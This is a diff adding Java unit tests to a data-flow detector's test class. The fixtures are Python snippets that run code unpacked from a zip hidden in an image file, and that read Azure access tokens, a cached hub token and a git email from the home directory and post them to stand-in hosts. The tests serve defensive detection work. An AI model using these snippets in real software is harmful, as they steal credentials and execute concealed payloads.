@@ -157,6 +157,25 @@ class DataFlowTest {
     }
 
     @Test
+    void codeReadOutOfAnImageOrFontIsExecutedFromIt() {
+      assertThat(
+              reached(
+                  "exec-media-flow",
+                  lines(
+                      "import io, os, zipfile",
+                      "with open(os.path.join(os.path.dirname(__file__), 'logo.jpg'), 'rb') as f:",
+                      "    data = f.read()",
+                      "z = zipfile.ZipFile(io.BytesIO(data[data.rfind(b'PK'):]))",
+                      "exec(z.read('main.py').decode())")))
+          .contains(5);
+      assertThat(
+              reached(
+                  "exec-media-flow",
+                  lines("icon = open('icon.png', 'rb').read()", "exec(open('plugin.py').read())")))
+          .isEmpty();
+    }
+
+    @Test
     void forgetsWhatAFunctionTaintedWhenTheFunctionEnds() {
       assertThat(
               reached(
@@ -262,6 +281,57 @@ class DataFlowTest {
 
   @Nested
   class SendingSecrets {
+
+    @Test
+    void aFileUnderAHiddenDirectoryOfTheHomeIsFollowedToTheSend() {
+      assertThat(
+              reached(
+                  "sends-home-file",
+                  lines(
+                      "import json, httpx",
+                      "from pathlib import Path",
+                      "found = {}",
+                      "for name in ('accessTokens.json', 'azureProfile.json'):",
+                      "    path = Path.home().joinpath('.azure', name)",
+                      "    found[name] = json.loads(path.read_text())",
+                      "httpx.Client().post('https://s.example/a', content=json.dumps(found))")))
+          .contains(7);
+      assertThat(
+              reached(
+                  "sends-home-file",
+                  lines(
+                      "import os, http.client",
+                      "p = os.path.join(os.path.expanduser('~'), '.cache', 'hub', 'token')",
+                      "with open(p) as f:",
+                      "    token = f.read()",
+                      "c = http.client.HTTPSConnection('u.example')",
+                      "c.request('POST', '/u', body=token)")))
+          .contains(6);
+      assertThat(
+              reached(
+                  "sends-home-file",
+                  lines(
+                      "import os, requests",
+                      "with open(os.path.expanduser('~/.config/tool/settings.toml')) as f:",
+                      "    settings = f.read()",
+                      "print(settings)",
+                      "requests.post('https://s.example/ping', data='up')")))
+          .isEmpty(); // read and shown, never sent
+    }
+
+    @Test
+    void whatAnObjectReadsFromAFileIsWhatItHolds() {
+      assertThat(
+              reached(
+                  "sends-home-file",
+                  lines(
+                      "import configparser, os, urllib.request",
+                      "cfg = configparser.ConfigParser()",
+                      "cfg.read(os.path.expanduser('~/.gitconfig'))",
+                      "email = cfg.get('user', 'email')",
+                      "urllib.request.urlopen('https://s.example/i?e=' + email)")))
+          .contains(5);
+    }
 
     @Test
     void aSystemReportIsFollowedIntoAPostBody() {
